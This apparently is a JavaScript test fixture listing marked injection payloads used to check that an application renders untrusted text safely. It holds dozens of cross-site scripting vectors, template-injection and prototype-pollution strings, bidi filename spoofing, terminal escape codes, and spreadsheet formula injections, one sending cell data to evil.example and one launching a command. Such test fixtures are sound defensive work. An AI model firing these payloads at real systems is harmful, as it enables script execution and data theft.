// Text that tries to become code, markup, another order of letters, or a formula. `HIT` is what each would run if it could;
// `MARK` tells the payloads apart and must be readable on the screen.

const HIT = "window.__hit(1)";
const MARK = "xq";

const MARKUP = [
  `<script>${HIT}</script>`,
  `<ScRiPt>${HIT}</sCrIpT>`,
  `<script src=data:text/javascript,${HIT}></script>`,
  `<script type=module>${HIT}</script>`,
  `"><script>${HIT}</script>`,
  `'><script>${HIT}</script>`,
  `</title><script>${HIT}</script>`,
  `</textarea><script>${HIT}</script>`,
  `</style><script>${HIT}</script>`,
  `--><script>${HIT}</script>`,
  `]]><script>${HIT}</script>`,
  `<<script>${HIT}//<</script>`,
  `<img src=x onerror=${HIT}>`,
  `<img src=x:x onerror="${HIT}">`,
  `<img/src/onerror=${HIT}>`,
  `"><img src=x onerror=${HIT}>`,
  `<image src=x onerror=${HIT}>`,
  `<img srcset=x onerror=${HIT}>`,
  `<svg onload=${HIT}>`,
  `<svg/onload=${HIT}>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg><set onbegin=${HIT} attributeName=x>`,
  `<svg><a xlink:href="javascript:${HIT}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${HIT}>"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}>`,
  `<math href="javascript:${HIT}">x</math>`,
  `<body onload=${HIT}>`,
  `<iframe src="javascript:${HIT}"></iframe>`,
  `<iframe srcdoc="<script>parent.__hit(1)</script>"></iframe>`,
  `<object data="javascript:${HIT}"></object>`,
  `<embed src="javascript:${HIT}">`,
  `<a href="javascript:${HIT}">x</a>`,
  `<a href="java&#09;script:${HIT}">x</a>`,
  `<form action="javascript:${HIT}"><button>x</button></form>`,
  `<button formaction="javascript:${HIT}">x</button>`,
  `<input autofocus onfocus=${HIT}>`,
  `<select autofocus onfocus=${HIT}>`,
  `<textarea autofocus onfocus=${HIT}>`,
  `<details open ontoggle=${HIT}>x</details>`,
  `<video><source onerror=${HIT}></video>`,
  `<audio src=x onerror=${HIT}>`,
  `<marquee onstart=${HIT}>x</marquee>`,
  `<div style="animation-name:x" onanimationstart=${HIT}>`,
  `<style>*{background:url("javascript:${HIT}")}</style>`,
  `<link rel=stylesheet href="javascript:${HIT}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`,
  `<base href="javascript:${HIT}//">`,
  `<template><script>${HIT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<isindex action="javascript:${HIT}">`,
  `<x onclick=${HIT} tabindex=1 id=x>x</x>`,
  `<p popover id=p onbeforetoggle=${HIT}>`,
  `<custom-element onfocusin=${HIT} tabindex=0 autofocus>`,
];

const CODE = [
  `javascript:${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  `';${HIT};//`,
  `";${HIT};//`,
  "${" + HIT + "}",
  "{{constructor.constructor('" + HIT + "')()}}",
  "{{7*7}}[[7*7]]<%= 7*7 %>#{7*7}",
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `%3Cscript%3E${HIT}%3C/script%3E`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${HIT}>"}}`,
  `{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${HIT}"}}}`,
];

const DECEIT = [
  "Mallory\u202Egnp.exe\u202C",
  "\u2066admin\u2069\u200B\u200Croot\u200D",
  "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C tower",
  "\u{E0041}\u{E0042} tags \uFEFF\u00AD\u3164",
  "lines\r\nof\u2028many\u2029kinds\u0085",
  "controls \u0001\u0007\u001B[31mred\u001B[0m\u007F",
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  `long ${"W".repeat(180)}`,
];

/** Each with a mark of its own at its front: `xq01 <script>…`. */
export const PAYLOADS = [...MARKUP, ...CODE, ...DECEIT].map((text, at) => ({ mark: markOf(at), text: `${markOf(at)} ${text}` }));

function markOf(at) {
  return `${MARK}${String(at).padStart(2, "0")}`;
}
